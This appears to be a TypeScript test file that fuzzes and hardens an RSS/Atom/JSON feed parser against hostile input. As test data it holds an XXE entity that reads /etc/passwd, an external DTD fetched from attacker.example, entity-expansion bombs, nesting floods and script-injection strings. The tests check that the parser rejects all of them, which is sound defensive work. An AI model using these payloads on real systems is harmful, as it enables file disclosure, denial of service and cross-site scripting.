import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { expectInert } from "../../test/inert.ts";
import { FeedParseError, parseFeed } from "./parse-feed.ts";

const fetchedAt = new Date("2026-11-22T12:00:00.000Z");
const parse = (body: string) => parseFeed(body, { fetchedAt });

/** Hang guard only (not a speed target): each hostile input must come back at all. */
const GUARD = { timeout: 5_000 };

const withDoctype = (doctype: string, title: string, description = "ok") =>
  `<?xml version="1.0"?>\n<!DOCTYPE rss [\n${doctype}\n]>\n<rss version="2.0"><channel><item><title>${title}</title><link>https://a.example/x</link><description>${description}</description></item></channel></rss>`;

function outcome(body: string): "items" | "parse-error" {
  try {
    const items = parse(body);
    for (const item of items) {
      expect(typeof item.title).toBe("string");
      expect(item.title.length).toBeLessThanOrEqual(500);
      expect(item.description.length).toBeLessThanOrEqual(2_000);
      expect(item.link === "" || /^https?:\/\//.test(item.link)).toBe(true);
      expect(item.image === null || /^https?:\/\//.test(item.image)).toBe(true);
      for (const text of [item.title, item.description, item.source, item.creator]) expectInert(text);
    }
    return "items";
  } catch (error) {
    if (error instanceof FeedParseError) return "parse-error";
    throw error;
  }
}

describe("hostile feeds", () => {
  it("never resolves an external entity (XXE)", GUARD, () => {
    const [item] = parse(withDoctype('<!ENTITY xxe SYSTEM "file:///etc/passwd">', "&xxe;"));
    expect(item?.title).toBe("&xxe;");
    expect(item?.title).not.toMatch(/root:/);
  });

  it("never expands nested entities (billion laughs)", GUARD, () => {
    const levels = ['<!ENTITY lol0 "lol">'];
    for (let i = 1; i <= 9; i++) levels.push(`<!ENTITY lol${i} "${`&lol${i - 1};`.repeat(10)}">`);
    const [item] = parse(withDoctype(levels.join("\n"), "&lol9;"));
    expect(item?.title).toBe("&lol9;");
  });

  it("never expands one large entity repeated (quadratic blowup)", GUARD, () => {
    const doctype = `<!ENTITY big "${"x".repeat(100_000)}">`;
    const [item] = parse(withDoctype(doctype, "T", "&big;".repeat(20_000)));
    expect(item?.description).not.toContain("xxxxxxxxxx");
    expect(item?.description.length).toBeLessThanOrEqual(2_000);
  });

  it("handles a flood of numeric character references", GUARD, () => {
    const [item] = parse(withDoctype("", "T", "&#65;".repeat(500_000)));
    expect(item?.description.startsWith("AAAA")).toBe(true);
    expect(item?.description.length).toBeLessThanOrEqual(2_000);
  });

  it("ignores entities that try to redefine &lt; and friends", GUARD, () => {
    const doctype = '<!ENTITY lt "&#60;script&#62;alert(1)&#60;/script&#62;"><!ENTITY amp "&#38;evil;">';
    const [item] = parse(withDoctype(doctype, "Fish &amp; chips", "&lt;b&gt;bold&lt;/b&gt;"));
    expect(item?.title).toBe("Fish & chips");
    expect(item?.description).toBe("bold");
  });

  it.each([
    [
      "a parameter entity pulling an external DTD",
      withDoctype('<!ENTITY % ext SYSTEM "http://attacker.example/x.dtd"> %ext;', "T"),
    ],
    ["a DOCTYPE with quotes and brackets inside strings", withDoctype('<!ENTITY q "a ] > b">', "T")],
  ])("reads past %s without fetching or expanding anything", (_, body) => {
    expect(parse(body).map((item) => item.title)).toEqual(["T"]);
  });

  it.each([
    [
      "truncated XML: the complete item is kept",
      `<rss><channel><item><title>Complete</title><link>https://a.example/1</link></item><item><title>Cut of`,
      ["Complete", "Cut of"],
    ],
    ["an unterminated DOCTYPE", "<!DOCTYPE rss [ <!ENTITY a 'b'> <rss>", "parse-error"],
    ["deep nesting", `<rss><channel>${"<x>".repeat(20_000)}</channel></rss>`, []],
    [
      "invalid UTF-8 turned into replacement characters",
      `<rss><channel><item><title>Caf\ufffd</title><link>https://a.example/u</link></item></channel></rss>`,
      ["Caf\ufffd"],
    ],
    [
      "a million-character attribute",
      `<rss><channel><item><title a="${"x".repeat(1_000_000)}">T</title><link>https://a.example/a</link></item></channel></rss>`,
      ["T"],
    ],
    ["an unclosed CDATA section", "<rss><channel><item><title><![CDATA[never ends", ["never ends"]],
    ["an unclosed comment", "<rss><channel><!-- never ends", []],
    [
      "NUL bytes",
      "<rss>\u0000<channel><item><title>A\u0000B</title><link>https://a.example/n</link></item></channel></rss>",
      ["AB"],
    ],
    ["deeply nested JSON arrays", `${"[".repeat(50_000)}${"]".repeat(50_000)}`, []],
    [
      "deeply nested JSON inside an item",
      `[{"title":"T","link":"https://a.example/j","authors":${"[".repeat(50_000)}${"]".repeat(50_000)}}]`,
      "parse-error",
    ],
    [
      "a DOCTYPE-like string inside CDATA",
      `<rss><channel><item><title>A</title><description><![CDATA[Use <!doctype html [ ok ]]></description><link>https://a.example/d</link></item><item><title>B</title><link>https://a.example/e</link></item></channel></rss>`,
      ["A", "B"],
    ],
  ])("handles %s", (_, body, expected) => {
    if (expected === "parse-error") {
      expect(outcome(body)).toBe("parse-error");
      return;
    }
    expect(parse(body).map((item) => item.title)).toEqual(expected);
  });

  it.each([
    ["unmatched end tags", (n: number) => `<rss>${"<a>".repeat(n)}${"</b>".repeat(n)}</rss>`],
    ["deep nesting", (n: number) => `<rss>${"<a>".repeat(n)}${"</a>".repeat(n)}</rss>`],
    ["many attributes", (n: number) => `<rss><channel><item ${'x="1" '.repeat(n)}/></channel></rss>`],
    [
      "a flood of tiny items",
      (n: number) => `<rss><channel>${"<item><title>t</title></item>".repeat(n / 10)}</channel></rss>`,
    ],
  ])("reads a 3 MB hostile document of %s in one pass", { timeout: 5_000 }, (_, make) => {
    // Hang guard, not a speed target: quadratic behaviour would take minutes here.
    expect(["items", "parse-error"]).toContain(outcome(make(300_000)));
  });

  it("never lets markup through as text, even when a feed escapes it twice", () => {
    const [item] = parse(
      withDoctype("", "T", "&amp;lt;img src=x onerror=alert(1)&amp;gt;&amp;lt;p&amp;gt;Hello&amp;lt;/p&amp;gt;"),
    );
    expect(item?.description).toBe("Hello");
    const [cdata] = parse(withDoctype("", "T", "<![CDATA[&lt;script&gt;alert(1)&lt;/script&gt;News]]>"));
    expect(cdata?.description).toBe("News");
  });
});

describe("parseFeed never throws anything but FeedParseError", () => {
  const fragment = fc.constantFrom(
    "<rss>",
    "</rss>",
    "<channel>",
    "</channel>",
    "<item>",
    "</item>",
    "<title>",
    "</title>",
    "<link>https://a.example/p</link>",
    "<guid>g</guid>",
    "<description>",
    "</description>",
    "<![CDATA[",
    "]]>",
    "<!DOCTYPE x [",
    "]>",
    "<!ENTITY e 'v'>",
    "&e;",
    "&amp;",
    "&#x1F680;",
    "&#99999999;",
    "<feed>",
    "<entry>",
    '<r:rss xmlns:r="http://backend.userland.com/rss2">',
    "<r:item>",
    '<title type="xhtml">',
    '<div xmlns="http://www.w3.org/1999/xhtml">',
    '<content type="html">',
    '<title mode="base64" type="text/html">',
    "PHNjcmlwdD4=",
    'xml:base="javascript:alert(1)"',
    "&lt;script&gt;",
    "&amp;lt;img src=x onerror=alert(1)&amp;gt;",
    "<b>",
    "</b>",
    "<script>",
    "</script>",
    '<link href="javascript:alert(1)"/>',
    '<media:thumbnail url="//x"/>',
    "<pubDate>Sun, 22 Nov 2026 10:00:00 GMT</pubDate>",
    "<!--",
    "-->",
    "<",
    ">",
    '"',
    "{",
    "}",
    "[",
    "]",
    '"status":"ok"',
    '"items":',
    ",",
  );
  const feedish = fc
    .array(fc.oneof(fragment, fc.string({ maxLength: 12 })), { maxLength: 60 })
    .map((parts) => parts.join(""));

  it("on feed-like fragments in any order", { timeout: 30_000 }, () => {
    fc.assert(
      fc.property(feedish, (body) => {
        outcome(body);
      }),
      { numRuns: 2_000 },
    );
  });

  it("on arbitrary text and JSON", { timeout: 30_000 }, () => {
    fc.assert(
      fc.property(fc.oneof(fc.string({ maxLength: 200 }), fc.json({ maxDepth: 4 })), (body) => {
        outcome(body);
      }),
      { numRuns: 2_000 },
    );
  });
});
